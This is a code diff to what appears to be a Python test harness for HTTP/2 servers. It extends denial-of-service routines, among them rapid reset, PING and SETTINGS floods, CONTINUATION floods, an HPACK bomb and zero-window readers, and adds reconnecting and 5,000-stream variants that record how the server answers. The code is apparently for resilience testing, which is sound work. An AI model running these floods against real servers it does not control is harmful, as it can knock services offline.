@@ -6,7 +6,9 @@
 Plain blocking sockets with timeouts, frames built here (RFC 9113), header blocks
 from the `hpack` package or written out byte by byte where the point is to be
 malformed. Every loop is bounded by the deadline and by a count; nothing waits on
-the server without a timeout. The run ends with ONE JSON line on stdout:
+the server without a timeout. `--seconds` is a cap, not a duration: an attack ends as
+soon as it has what it came for (the server's GOAWAY, its close, an answer), so a
+slow machine makes it last longer, never fail. The run ends with ONE JSON line on stdout:
 
     {"attack", "seconds", "frames_sent", "bytes_sent", "connections",
      "goaway_codes": [...], "rst_codes": {"0x1": n, ...},
@@ -43,6 +45,7 @@ END_STREAM = ACK = 0x1
 END_HEADERS = 0x4
 INITIAL_WINDOW_SIZE = 0x4
 CANCEL = 0x8
+ENHANCE_YOUR_CALM = 0xB
 MAX_FRAME = 16_384
 MAX_STREAM_ID = 2**31 - 1
 MAX_PENDING = 1 << 20  # bytes queued for a server that does not read
@@ -427,10 +430,9 @@ def _connect(a: Args, stats: Stats, **kw: Any) -> Conn | None:
         return None
 
 
-def _handshake(c: Conn) -> None:
-    """Wait (briefly) for the server's SETTINGS, which poll() acknowledges."""
-    end = time.monotonic() + 1.0
-    while not c.closed and c.settings_seen == 0 and time.monotonic() < end:
+def _handshake(c: Conn, a: Args) -> None:
+    """Wait for the server's SETTINGS, which poll() acknowledges."""
+    while not c.closed and c.settings_seen == 0 and time.monotonic() < a.deadline:
         c.poll(wait=0.05)
 
 
@@ -450,13 +452,11 @@ def _open_gets(c: Conn, count: int, target: str) -> int:
     return opened
 
 
-def _flood(a: Args, c: Conn, chunk: bytes, frames: int, read: bool, max_rounds: int,
-           until: float | None = None) -> int:
-    """Send `chunk` (holding `frames` frames) until the deadline, a close or a stall;
-    between rounds read what arrived if `read`. Returns rounds sent."""
-    end = until if until is not None else a.deadline
+def _flood(a: Args, c: Conn, chunk: bytes, frames: int, read: bool, max_rounds: int) -> int:
+    """Send `chunk` (holding `frames` frames) until the deadline or a close; between
+    rounds read what arrived if `read`. Returns rounds sent."""
     rounds = 0
-    while rounds < max_rounds and time.monotonic() < end and not c.closed:
+    while rounds < max_rounds and time.monotonic() < a.deadline and not c.closed:
         if not c.push(chunk, frames, read):
             continue  # closed (the loop ends), or the server is not reading: try again
         rounds += 1
@@ -465,15 +465,21 @@ def _flood(a: Args, c: Conn, chunk: bytes, frames: int, read: bool, max_rounds: 
     return rounds
 
 
-def _blocked_streams_then(a: Args, stats: Stats, chunk: bytes, frames: int) -> None:
+def _blocked_streams_then(a: Args, stats: Stats, chunk: bytes, frames: int,
+                          streams: int = 500, read: bool = True) -> None:
+    """Window 0 for our streams, `streams` Get streams whose responses are thus
+    blocked, then `chunk` as a flood (reading between rounds, or never)."""
     c = _connect(a, stats, local_settings={INITIAL_WINDOW_SIZE: 0})
     if c is None:
         return
-    _handshake(c)
-    stats.extra["streams_opened"] = _open_gets(c, 500, a.target or DEFAULT_FLOOD_TARGET)
+    _handshake(c, a)
+    stats.extra["streams_opened"] = _open_gets(c, streams, a.target or DEFAULT_FLOOD_TARGET)
     c.poll(wait=0.2)
-    stats.extra["rounds"] = _flood(a, c, chunk, frames, read=True, max_rounds=10_000_000)
-    c.drain(min(1.0, max(0.2, a.deadline - time.monotonic())))
+    if read:
+        stats.extra["rounds"] = _flood(a, c, chunk, frames, read=True, max_rounds=10_000_000)
+    else:
+        stats.extra["rounds"] = _flood_unread(a, c, chunk, frames, max_frames=100_000)
+    c.drain(max(0.0, a.deadline - time.monotonic()))
 
 
 @attack("window-update-flood")
@@ -490,18 +496,24 @@ def settings_toggle(a: Args, stats: Stats) -> None:
     _blocked_streams_then(a, stats, pair * 500, 1000)
 
 
+# Connections a reconnecting flood sees cut off before it stops.
+CUT_OFFS = 3
+
+
 def _reconnecting_flood(a: Args, stats: Stats, batch: Callable[[Conn], bytes],
-                        frames: int) -> int:
+                        frames: int, cut_offs: int = CUT_OFFS) -> int:
     """Send `batch(conn)` (`frames` frames) as fast as the server reads,
-    reconnecting whenever it closes the connection; how many batches went out."""
+    reconnecting whenever it closes the connection, until `cut_offs` connections got a
+    GOAWAY; how many batches went out."""
     sent = 0
     for _ in range(10_000):
-        if time.monotonic() >= a.deadline:
+        if time.monotonic() >= a.deadline or sum(
+                1 for c in stats.conns if c.goaways) >= cut_offs:
             break
         c = _connect(a, stats)
         if c is None:
             continue
-        _handshake(c)
+        _handshake(c, a)
         while not c.closed and time.monotonic() < a.deadline:
             if c.next_stream > MAX_STREAM_ID - 1000:
                 c.close()
@@ -513,7 +525,7 @@ def _reconnecting_flood(a: Args, stats: Stats, batch: Callable[[Conn], bytes],
             sent += 1
             c.poll()
         if not c.closed:
-            c.drain(0.2)
+            c.drain(max(0.0, a.deadline - time.monotonic()))
             c.close()
     return sent
 
@@ -532,33 +544,42 @@ def rapid_reset(a: Args, stats: Stats) -> None:
     stats.extra["pairs"] = 200 * _reconnecting_flood(a, stats, pairs, 400)
 
 
-def _no_read_flood(a: Args, stats: Stats, chunk: bytes, frames: int,
-                   prepare: Callable[[Conn], None] | None = None) -> None:
+def _flood_unread(a: Args, c: Conn, chunk: bytes, frames: int, max_frames: int) -> int:
+    """`chunk` over and over without reading, until `max_frames` frames went out, the
+    server stopped reading us or closed. Returns rounds sent."""
+    rounds = 0
+    while rounds * frames < max_frames and time.monotonic() < a.deadline and not c.closed:
+        if c.push(chunk, frames, read=False):
+            rounds += 1
+        elif c.stalled:
+            break  # the server stopped reading us: the flood did what it could
+    return rounds
+
+
+def _no_read_flood(a: Args, stats: Stats, chunk: bytes, frames: int, max_frames: int) -> None:
+    """`chunk` over and over without reading (`_flood_unread`); then read what the
+    server said."""
     c = _connect(a, stats)
     if c is None:
         return
-    _handshake(c)
-    if prepare is not None:
-        prepare(c)
-    drain_from = a.deadline - 1.0
-    rounds = _flood(a, c, chunk, frames, read=False, max_rounds=10_000_000, until=drain_from)
-    stats.extra["rounds"] = rounds
+    _handshake(c, a)
+    stats.extra["rounds"] = _flood_unread(a, c, chunk, frames, max_frames)
     stats.extra["stalled"] = c.stalled
-    # Never read during the flood; now see what the server said.
-    c.drain(max(0.2, a.deadline - time.monotonic()))
+    c.drain(max(0.0, a.deadline - time.monotonic()))
     stats.extra["bytes_read"] = c.bytes_read
 
 
 @attack("ping-flood")
 def ping_flood(a: Args, stats: Stats) -> None:
     """PINGs without ever reading their ACKs (CVE-2019-9512)."""
-    _no_read_flood(a, stats, ping() * 1000, 1000)
+    _no_read_flood(a, stats, ping() * 1000, 1000, max_frames=100_000)
 
 
 @attack("settings-flood")
 def settings_flood(a: Args, stats: Stats) -> None:
     """SETTINGS without ever reading their ACKs (CVE-2019-9515)."""
-    _no_read_flood(a, stats, settings({INITIAL_WINDOW_SIZE: 65_535}) * 1000, 1000)
+    _no_read_flood(a, stats, settings({INITIAL_WINDOW_SIZE: 65_535}) * 1000, 1000,
+                   max_frames=100_000)
 
 
 # A request the server must reset: an uppercase field name makes it malformed
@@ -572,12 +593,10 @@ def reset_trigger_flood(a: Args, stats: Stats) -> None:
     c = _connect(a, stats)
     if c is None:
         return
-    _handshake(c)
-    drain_from = a.deadline - 1.0
+    _handshake(c, a)
     sent = 0
-    while time.monotonic() < drain_from and not c.closed:
-        if c.next_stream > MAX_STREAM_ID - 1000:
-            break
+    # Ten times the server's budget, unless it stops reading us or closes first.
+    while sent < 10_000 and time.monotonic() < a.deadline and not c.closed:
         first = c.next_stream
         batch = b"".join(headers(c.stream_id(), MALFORMED_BLOCK, end_stream=True)
                          for _ in range(200))
@@ -585,8 +604,10 @@ def reset_trigger_flood(a: Args, stats: Stats) -> None:
             sent += 200
         else:
             c.next_stream = first
+            if c.stalled:
+                break
     stats.extra["requests"] = sent
-    c.drain(max(0.2, a.deadline - time.monotonic()))
+    c.drain(max(0.0, a.deadline - time.monotonic()))
 
 
 def _open_get(c: Conn, target: str, end: bool = False) -> int:
@@ -602,12 +623,12 @@ def empty_frames(a: Args, stats: Stats) -> None:
     c = _connect(a, stats)
     if c is None:
         return
-    _handshake(c)
+    _handshake(c, a)
     sid = c.stream_id()
     c.send(headers(sid, GET_BLOCK, end_stream=False))
     stats.extra["rounds"] = _flood(a, c, data(sid, b"", False) * 1000, 1000, read=True,
                                    max_rounds=10_000_000)
-    c.drain(0.3)
+    c.drain(max(0.0, a.deadline - time.monotonic()))
 
 
 @attack("priority-flood")
@@ -617,7 +638,7 @@ def priority_flood(a: Args, stats: Stats) -> None:
     c = _connect(a, stats)
     if c is None:
         return
-    _handshake(c)
+    _handshake(c, a)
     rounds, sid = 0, 1
     while time.monotonic() < a.deadline and not c.closed and rounds < 1_000_000:
         if sid > MAX_STREAM_ID - 4000:
@@ -632,7 +653,7 @@ def priority_flood(a: Args, stats: Stats) -> None:
         rounds += 1
         c.poll()
     stats.extra["rounds"] = rounds
-    c.drain(0.3)
+    c.drain(max(0.0, a.deadline - time.monotonic()))
 
 
 # 16 fields of exactly 1,024 bytes: one CONTINUATION frame of 16 KiB of header bytes.
@@ -644,14 +665,14 @@ def _continuation_flood(a: Args, stats: Stats, payload: bytes) -> None:
     c = _connect(a, stats)
     if c is None:
         return
-    _handshake(c)
+    _handshake(c, a)
     sid = c.stream_id()
     c.send(headers(sid, GET_BLOCK, end_stream=True, end_headers=False))
     chunk = continuation(sid, payload, end_headers=False) * (4 if payload else 1000)
     rounds = _flood(a, c, chunk, 4 if payload else 1000, read=True, max_rounds=10_000_000)
     stats.extra["rounds"] = rounds
     stats.extra["header_bytes_sent"] = rounds * len(chunk) if payload else 0
-    c.drain(0.3)
+    c.drain(max(0.0, a.deadline - time.monotonic()))
 
 
 @attack("continuation-flood")
@@ -689,7 +710,7 @@ def hpack_bomb(a: Args, stats: Stats) -> None:
     c = _connect(a, stats)
     if c is None:
         return
-    _handshake(c)
+    _handshake(c, a)
     first = c.stream_id()
     c.send(headers(first, GET_BLOCK + literal_indexed(b"x-bomb", b"b" * 4000),
                    end_stream=True))
@@ -707,7 +728,7 @@ def hpack_bomb(a: Args, stats: Stats) -> None:
         c.poll()
     stats.extra["bomb_blocks"] = blocks
     stats.extra["decoded_bytes_per_block"] = 300 * (6 + 4000)
-    c.drain(0.3)
+    c.drain(max(0.0, a.deadline - time.monotonic()))
 
 
 @attack("oversized-headers")
@@ -717,7 +738,7 @@ def oversized_headers(a: Args, stats: Stats) -> None:
     c = _connect(a, stats)
     if c is None:
         return
-    _handshake(c)
+    _handshake(c, a)
     sid = c.stream_id()
     block = GET_BLOCK + _FIELD_1K * 80
     pieces = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)]
@@ -727,12 +748,12 @@ def oversized_headers(a: Args, stats: Stats) -> None:
     c.send(bytes(out), len(pieces))
     c.poll(wait=0.2)
     valid = _open_get(c, a.target or DEFAULT_FLOOD_TARGET, end=True)
-    end = min(a.deadline, time.monotonic() + 2.0)
+    end = a.deadline
     while not c.closed and valid not in c.responses and time.monotonic() < end:
         c.poll(wait=0.05)
     stats.extra["oversized_stream"] = c.status(sid)
     stats.extra["valid_request"] = c.status(valid)
-    c.drain(0.3)
+    c.drain(max(0.0, a.deadline - time.monotonic()))
 
 
 @attack("empty-names")
@@ -741,15 +762,15 @@ def empty_names(a: Args, stats: Stats) -> None:
     c = _connect(a, stats)
     if c is None:
         return
-    _handshake(c)
+    _handshake(c, a)
     sid = c.stream_id()
     c.send(headers(sid, GET_BLOCK + b"\x00\x00\x00" * 1900, end_stream=True))
-    end = min(a.deadline, time.monotonic() + 2.0)
+    end = a.deadline
     while not c.closed and sid not in c.responses and sid not in c.rst_by_stream \
             and time.monotonic() < end:
         c.poll(wait=0.05)
     stats.extra["stream"] = c.status(sid)
-    c.drain(0.3)
+    c.drain(max(0.0, a.deadline - time.monotonic()))
 
 
 _PSEUDO = stateless_block(request_fields(GET_PATH)[:4])
@@ -770,18 +791,18 @@ def bad_headers(a: Args, stats: Stats) -> None:
     c = _connect(a, stats)
     if c is None:
         return
-    _handshake(c)
+    _handshake(c, a)
     streams = {}
     for name, block in BAD_HEADERS.items():
         sid = c.stream_id()
         streams[name] = sid
         c.send(headers(sid, block, end_stream=True))
-    end = min(a.deadline, time.monotonic() + 2.0)
+    end = a.deadline
     while not c.closed and time.monotonic() < end and not all(
             s in c.rst_by_stream or s in c.responses for s in streams.values()):
         c.poll(wait=0.05)
     valid = _open_get(c, a.target or DEFAULT_FLOOD_TARGET, end=True)
-    end = min(a.deadline, time.monotonic() + 2.0)
+    end = a.deadline
     while not c.closed and valid not in c.responses and time.monotonic() < end:
         c.poll(wait=0.05)
     stats.extra["bad"] = {name: c.status(sid) for name, sid in streams.items()}
@@ -814,9 +835,9 @@ def silent_peer(a: Args, stats: Stats) -> None:
     c = _connect(a, stats)
     if c is None:
         return
-    _handshake(c)
+    _handshake(c, a)
     sid = _open_get(c, a.target or DEFAULT_FLOOD_TARGET, end=True)
-    end = min(a.deadline, time.monotonic() + 1.0)
+    end = a.deadline
     while not c.closed and sid not in c.responses and time.monotonic() < end:
         c.poll(wait=0.05)
     stats.extra["stream"] = c.status(sid)
@@ -839,10 +860,12 @@ def connection_flood(a: Args, stats: Stats) -> None:
             conns.append(c)
             c.poll()
     stats.extra["opened"] = len(conns)
+    # Until every connection is closed: those beyond the limit at once, the others
+    # by the idle timeout.
     watch(conns, a.deadline, stop_when_all_closed=True)
-    quick = [c for c in conns if c.closed_at is not None and c.closed_at <= 1.0]
-    stats.extra["closed_within_1s"] = len(quick)
-    stats.extra["held_to_end"] = sum(1 for c in conns if not c.closed)
+    refused = [c for c in conns if ENHANCE_YOUR_CALM in c.goaways]
+    stats.extra["refused"] = len(refused)
+    stats.extra["held"] = len(conns) - len(refused)
     for c in conns:
         c.close()
 
@@ -855,11 +878,54 @@ def zero_window_readers(a: Args, stats: Stats) -> None:
              if (c := _connect(a, stats, local_settings={INITIAL_WINDOW_SIZE: 0}))]
     streams = 0
     for c in conns:
-        _handshake(c)
+        _handshake(c, a)
         streams += _open_gets(c, 25, a.target or DEFAULT_FLOOD_TARGET)
     stats.extra["streams_opened"] = streams
     watch(conns, a.deadline)
     stats.extra["data_bytes_received"] = sum(c.data_bytes for c in conns)
+
+
+# ---------------------------------------------------- what attacks leave behind
+# The shapes that once left the server's memory far above where it started: many
+# connections each cut off, and one connection holding thousands of streams.
+
+
+@attack("continuation-reconnect")
+def continuation_reconnect(a: Args, stats: Stats) -> None:
+    """Connection after connection (--connections, default 300), each a HEADERS frame
+    without END_HEADERS followed by thousands of empty CONTINUATION frames."""
+    def block(c: Conn) -> bytes:
+        sid = c.stream_id()
+        return headers(sid, GET_BLOCK, end_stream=True, end_headers=False) + continuation(
+            sid, b"", end_headers=False) * 2000
+
+    stats.extra["batches"] = _reconnecting_flood(a, stats, block, 2001,
+                                                 cut_offs=a.connections or 300)
+
+
+@attack("empty-names-reconnect")
+def empty_names_reconnect(a: Args, stats: Stats) -> None:
+    """Connection after connection (--connections, default 300), each sending header
+    blocks of 1,900 empty literal header names."""
+    def requests(c: Conn) -> bytes:
+        return headers(c.stream_id(), GET_BLOCK + b"\x00\x00\x00" * 1900, end_stream=True)
+
+    stats.extra["blocks"] = _reconnecting_flood(a, stats, requests, 1,
+                                                cut_offs=a.connections or 300)
+
+
+@attack("window-update-5000-streams")
+def window_update_5000_streams(a: Args, stats: Stats) -> None:
+    """window-update-flood with 5,000 blocked Get streams on the connection."""
+    _blocked_streams_then(a, stats, window_update(0, 1) * 1000, 1000, streams=5000)
+
+
+@attack("settings-toggle-5000-unread")
+def settings_toggle_5000_unread(a: Args, stats: Stats) -> None:
+    """5,000 blocked Get streams, then INITIAL_WINDOW_SIZE toggled 0 <-> 1, never
+    reading what the server sends."""
+    pair = settings({INITIAL_WINDOW_SIZE: 1}) + settings({INITIAL_WINDOW_SIZE: 0})
+    _blocked_streams_then(a, stats, pair * 500, 1000, streams=5000, read=False)
 
 
 # ------------------------------------------------------------------------- main
